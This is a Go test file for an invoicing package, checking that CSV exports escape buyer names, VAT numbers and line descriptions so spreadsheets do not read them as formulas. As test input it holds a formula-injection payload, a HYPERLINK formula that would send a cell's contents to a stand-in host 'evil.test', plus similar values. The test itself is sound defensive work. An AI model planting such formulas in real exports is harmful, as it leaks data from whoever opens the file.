package invoices_test

import (
	"bytes"
	"encoding/csv"
	"testing"
	"time"

	"comptoir/internal/invoices"
	"comptoir/internal/money"
)

// Text someone else typed (a buyer's name, a product's name) must not
// become a formula when the accountant opens the export in a spreadsheet;
// amounts stay numbers, a credit note's negative ones included.
func TestCSVCellsCannotBeFormulas(t *testing.T) {
	eur := func(minor int64) money.Amount { return money.MustNew(minor, "EUR") }
	line := invoices.Line{Position: 1, Description: `=HYPERLINK("http://evil.test/?x="&A1,"Voir")`, Quantity: 1,
		Net: eur(500), RateBP: 2000, VAT: eur(100), Total: eur(600)}
	docs := []invoices.Invoice{
		{Number: "F-2026-000001", Kind: invoices.KindInvoice, IssuedAt: time.Date(2026, 3, 8, 0, 0, 0, 0, time.UTC), OrderID: "ord_1",
			CustomerID: "usr_1", BuyerName: "+33 SUM(A1:A9)", BuyerVATNumber: "@cmd", VATCountry: "FR", VATReason: invoices.ReasonSellerCountry,
			Net: eur(500), VAT: eur(100), Total: eur(600), Lines: []invoices.Line{line}},
		{Number: "A-2026-000001", Kind: invoices.KindCreditNote, IssuedAt: time.Date(2026, 3, 9, 0, 0, 0, 0, time.UTC), OrderID: "ord_1",
			CustomerID: "usr_1", BuyerName: "-2+3", VATCountry: "FR", VATReason: invoices.ReasonSellerCountry,
			Net: eur(500), VAT: eur(100), Total: eur(600), Lines: []invoices.Line{line}},
	}
	var buf bytes.Buffer
	if err := invoices.WriteCSV(&buf, docs); err != nil {
		t.Fatal(err)
	}
	rows, err := csv.NewReader(&buf).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	head := map[string]int{}
	for i, name := range rows[0] {
		head[name] = i
	}
	for _, row := range rows[1:] {
		for _, col := range []string{"buyer_name", "buyer_vat_number", "description"} {
			if c := row[head[col]]; c != "" && (c[0] == '=' || c[0] == '+' || c[0] == '-' || c[0] == '@') {
				t.Errorf("%s cell %q would be read as a formula", col, c)
			}
		}
	}
	if got := rows[1][head["buyer_name"]]; got != "'+33 SUM(A1:A9)" {
		t.Errorf("buyer name written %q, want it kept behind an apostrophe", got)
	}
	if got := rows[2][head["total"]]; got != "-6.00" {
		t.Errorf("credit note total %q, want the number -6.00", got)
	}
}
